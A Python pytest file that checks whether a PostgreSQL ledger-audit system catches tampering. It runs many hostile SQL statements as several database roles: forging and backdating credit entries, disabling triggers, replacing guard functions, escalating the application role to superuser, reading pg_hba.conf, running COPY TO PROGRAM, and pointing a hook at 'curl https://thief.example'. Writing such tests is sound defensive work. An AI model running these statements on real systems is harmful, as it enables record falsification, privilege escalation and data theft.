"""Statements that would falsify books, by the role that does them, and what stops or names each."""

import pytest

from tests.audit.attack.attempts import Books, is_listed, listed, report

_CORRECTION = """
    INSERT INTO credit_entry (batch_id, generation_id, kind, source, target, credits, actor, reason, posted_at)
    SELECT batch_id, generation_id, 'correct', 'spent', 'cap', 1, {actor}, {reason}, {at}
    FROM credit_entry WHERE kind = 'settle' LIMIT 1"""
_SEAL = """
    INSERT INTO seal (id, sealed_at, last_entry_id, entries, credits, digests, previous_hash, hash)
    SELECT id + 1, sealed_at, last_entry_id, 0, 0, '', hash, sha256('mine') FROM seal ORDER BY id DESC LIMIT 1"""
_FACTS = """
    INSERT INTO seal_fact (seal_id, digests, previous_hash, hash)
    SELECT max(s.id), '', (SELECT hash FROM seal_fact ORDER BY seal_id DESC LIMIT 1), sha256('mine') FROM seal s
    HAVING max(s.id) > (SELECT max(seal_id) FROM seal_fact)"""

APPLICATION = {
    "raise the cap of a batch": ("UPDATE batch SET credit_cap = 1000000", "recorded"),
    "lift the cap of an owner": ("DELETE FROM owner_cap", "recorded"),
    "raise the cap of an owner": ("UPDATE owner_cap SET monthly_cap = 1000000", "recorded"),
    "rewrite a prompt": ("UPDATE job SET prompt = 'mine'", "denied"),
    "rewrite a price": ("UPDATE job SET price = 0", "denied"),
    "rewrite the hash of an image": ("UPDATE result SET sha256 = 'mine'", "denied"),
    "rewrite the bytes of a request": ("UPDATE generation SET body = 'mine'", "sealed_facts"),
    "post a correction that no change signs": (
        _CORRECTION.format(actor="'eve'", reason="'mine'", at="now()"),
        "corrections_signed",
    ),
    "post a correction under another's name": (
        _CORRECTION.format(actor="'ann'", reason="'the provider said so'", at="now()"),
        "entries_follow_state",
    ),
    "date an entry back": (_CORRECTION.format(actor="'eve'", reason="'x'", at="'2001-01-01'"), "corrections_signed"),
    "add a seal": (_SEAL, "seals"),
    "add facts": (_FACTS, "no row"),
    "close the books with the auditor's function": ("SELECT close_books()", "denied"),
    "delete changes": ("DELETE FROM change", "denied"),
    "write a change as another login": (
        """INSERT INTO change (id, subject, field, actor, changed_at, login)
        VALUES (gen_random_uuid(), 'batch:x', 'credit_cap', 'ann', now(), 'ann')""",
        "denied",
    ),
    "write a change that was not made": (
        """INSERT INTO change (id, subject, field, before, after, actor, changed_at)
        SELECT gen_random_uuid(), 'batch:' || id, 'credit_cap', '1', '2', 'ann', now() FROM batch LIMIT 1""",
        "settings_recorded",
    ),
    "have a hook run a command": (
        "UPDATE hook SET kind = 'command', target = 'curl https://thief.example'",
        "denied",
    ),
    "add a hook": (
        """INSERT INTO hook (id, catalog_id, kind, target, events, created_at)
        SELECT gen_random_uuid(), id, 'command', 'curl', '{image.live}', now() FROM catalog""",
        "recorded",
    ),
    "give itself a right": ("SELECT grant_application_rights()", "denied"),
    "switch a trigger off": ("ALTER TABLE credit_entry DISABLE TRIGGER ALL", "denied"),
    "write past triggers": ("SET LOCAL session_replication_role = replica", "denied"),
    "replace a guard": (
        "CREATE OR REPLACE FUNCTION refuse_change() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'",
        "denied",
    ),
    "make a function": ("CREATE FUNCTION sha256(text) RETURNS text LANGUAGE sql AS 'SELECT $1'", "denied"),
    "make a table": ("CREATE TABLE mine (id int)", "denied"),
    "run a program": ("COPY change TO PROGRAM 'cat'", "denied"),
    "read a file": ("SELECT pg_read_file('pg_hba.conf')", "denied"),
    "become a superuser": ("ALTER ROLE darkroom_app SUPERUSER", "denied"),
}
"""What the application's role does, and what comes of it: ``denied``, ``recorded``, or a check that names it."""


def test_no_attack_with_the_rights_of_the_application_goes_unnoticed(books: Books) -> None:
    tried = {what: books.as_role("darkroom_app", what, statement) for what, (statement, _) in APPLICATION.items()}

    report("As the application's role", tried.values())
    came = {what: expected for what, (_, expected) in APPLICATION.items()}
    assert {w: t.outcome for w, t in tried.items() if came[w] not in t.outcome.split(", ")} == {}


def test_a_temporary_table_in_the_place_of_ours_deceives_no_trigger(books: Books) -> None:
    shadow = "CREATE TEMP TABLE {0} (LIKE public.{0})"
    entry = _CORRECTION.format(actor="'eve'", reason="'x'", at="'2001-01-01'").replace("INTO c", "INTO public.c")
    cap = "UPDATE public.batch SET credit_cap = 1000000"

    tried = [
        books.as_role("darkroom_app", what, f"{shadow.format(table)}; {statement}; DROP TABLE pg_temp.{table}")
        for what, table, statement in (
            ("hide the seals and date an entry back", "seal", entry),
            ("hide the log and raise a cap", "change", cap),
        )
    ]

    report("Temporary tables", tried)
    assert "books_closed" not in tried[0].outcome
    assert tried[1].outcome == "recorded"


@pytest.mark.parametrize("role", ["darkroom_app", "darkroom_audit", "pg_signal_backend"])
@pytest.mark.parametrize("right", ["INSERT INTO {0} DEFAULT VALUES", "DELETE FROM {0}", "TRUNCATE {0} CASCADE"])
def test_rows_are_added_and_removed_only_where_the_program_does(books: Books, role: str, right: str) -> None:
    tried = [books.as_role(role, right.format(table), right.format(table)) for table in books.tables()]

    report(f"{right.split(maxsplit=1)[0]} as {role}", tried)
    passed = {each.what for each in tried if each.outcome != "denied"}
    assert not passed or role == "darkroom_app"
    assert not (passed and right.startswith("TRUNCATE"))


@pytest.mark.parametrize("role", ["darkroom_audit", "pg_signal_backend"])
def test_no_function_gives_a_reader_more(books: Books, role: str) -> None:
    enqueue = """darkroom_enqueue('{"token": "mine"}', '[]')"""
    calls = ("lock_ledger()", "close_books()", "grant_application_rights()", "darkroom_batch('mine')", enqueue)

    tried = {call: books.as_role(role, call, f"SELECT {call}").outcome for call in calls}

    may_close = role == "darkroom_audit"
    assert tried == {
        "lock_ledger()": "denied",
        "close_books()": "unnoticed" if may_close else "denied",
        "grant_application_rights()": "denied",
        "darkroom_batch('mine')": "denied",
        enqueue: "denied",
    }


HOLLOW = "CREATE OR REPLACE FUNCTION {}() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'"
SUPERUSER = {
    "replace a guard": (HOLLOW.format("refuse_change"), "guards"),
    "replace the recorder of settings": (HOLLOW.format("record_setting"), "guards"),
    "replace the auditor's function": (
        "CREATE OR REPLACE FUNCTION close_books() RETURNS timestamptz LANGUAGE sql AS 'SELECT now()'",
        "guards",
    ),
    "drop a trigger": ("DROP TRIGGER append_only ON change", "append_only"),
    "switch a trigger off": ("ALTER TABLE change DISABLE TRIGGER append_only", "append_only"),
    "switch foreign keys off": ("ALTER TABLE credit_entry DISABLE TRIGGER ALL", "nothing_unknown"),
    "have a trigger record less": (
        """DROP TRIGGER settings ON owner_cap; CREATE TRIGGER settings AFTER INSERT OR DELETE OR UPDATE ON owner_cap
        FOR EACH ROW EXECUTE FUNCTION record_setting('owner:', 'owner')""",
        "append_only",
    ),
    "add a trigger": (
        """CREATE TRIGGER mine BEFORE INSERT ON credit_entry FOR EACH ROW
        EXECUTE FUNCTION suppress_redundant_updates_trigger()""",
        "nothing_unknown",
    ),
    "add a rule": ("CREATE RULE mine AS ON INSERT TO change DO INSTEAD NOTHING", "nothing_unknown"),
    "add a function": (
        "CREATE FUNCTION sha256(text) RETURNS bytea LANGUAGE sql AS 'SELECT NULL::bytea'",
        "nothing_unknown",
    ),
    "add a policy": ("CREATE POLICY mine ON change USING (actor <> 'eve')", "nothing_unknown"),
    "turn row security on": ("ALTER TABLE change ENABLE ROW LEVEL SECURITY", "nothing_unknown"),
    "have a table inherit": ("CREATE TABLE mine () INHERITS (wallet_reading)", "nothing_unknown"),
    "give the application a right": ("GRANT UPDATE ON job TO darkroom_app", "rights"),
    "give the application a column": ("GRANT UPDATE (prompt) ON job TO darkroom_app", "rights"),
    "let the application make functions": ("GRANT CREATE ON SCHEMA public TO darkroom_app", "rights"),
    "make the application a superuser": ("ALTER ROLE darkroom_app SUPERUSER", "rights"),
    "cut the chain": ("DELETE FROM seal WHERE id = (SELECT max(id) FROM seal)", "fact_seals"),
    "remove facts": ("DELETE FROM seal_fact WHERE seal_id = (SELECT min(seal_id) FROM seal_fact)", "fact_seals"),
}
"""What a superuser does, and the check that names it."""


def test_what_a_superuser_does_to_guards_and_chains_is_named(books: Books) -> None:
    tried = {
        what: books.as_superuser(what, statement, is_past_triggers=not what.startswith("add a rule"))
        for what, (statement, _) in SUPERUSER.items()
    }

    report("As a superuser", tried.values())
    assert {w: t.outcome for w, t in tried.items() if SUPERUSER[w][1] not in t.outcome.split(", ")} == {}


def test_a_superuser_removes_no_row_unnoticed_but_from_tables_that_the_guide_lists(books: Books) -> None:
    known = listed()

    tried = [books.as_superuser(f"{table}.row", f"DELETE FROM {table}") for table in books.tables()]

    report("All rows removed by a superuser", tried)
    assert {each.what for each in tried if each.is_unnoticed and not is_listed(each.what, known)} == set()


@pytest.mark.parametrize(
    ("table", "columns"),
    [
        ("call", "started_at, ended_at, account_id, generation_id, send, is_late, kind, outcome, recorded_at"),
        ("change", "id, subject, field, before, after, actor, reason, changed_at"),
        ("wallet_reading", "id, account_id, credits, read_at, recorded_at"),
        ("generation_reading", "id, generation_id, read_at, status"),
    ],
)
def test_a_row_that_a_superuser_slips_into_a_closed_period_is_named(books: Books, table: str, columns: str) -> None:
    values = columns.replace("id,", "gen_random_uuid(),", 1) if columns.startswith("id,") else columns

    tried = books.as_superuser(table, f"INSERT INTO {table} ({columns}) SELECT {values} FROM {table} LIMIT 1")

    assert "sealed_facts" in tried.outcome
